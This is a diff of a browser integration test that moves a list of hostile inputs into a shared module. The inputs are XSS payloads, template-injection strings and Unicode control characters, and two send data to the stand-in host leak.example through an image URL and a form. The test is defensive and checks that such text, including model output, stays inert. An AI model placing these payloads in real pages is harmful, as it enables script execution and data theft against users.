@@ -3,25 +3,12 @@
 import pytest
 
 from tests.integration.browser.conftest import Installation
-from tests.integration.browser.harm import nothing_ran
+from tests.integration.browser.harm import HOSTILE, NAME, nothing_ran
 from tests.integration.browser.webdriver import Browser
 
 pytestmark = pytest.mark.timeout(300)
 
 ENTER = "\ue007"
-RUN = "window.ran=1"
-HOSTILE = (
-    f"<img src=x onerror={RUN}>",
-    f"<script>{RUN}</script>",
-    f'"><svg/onload={RUN}>',
-    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
-    f"[link](javascript:{RUN}) ![leak](https://leak.example/?q=1)",
-    f"<a href='javascript:{RUN}'>わるい</a><style>*{{display:none}}</style>",
-    "{{constructor.constructor('window.ran=1')()}} ${window.ran=1}",
-    "</textarea></p></article><form action=https://leak.example><input name=key>",
-    "\u202eesrever \u2066 isolate \u200b zero",
-)
-NAME = "<b onclick=1>蟹</b>"
 
 
 def test_hostile_words_of_people_and_models_stay_text(
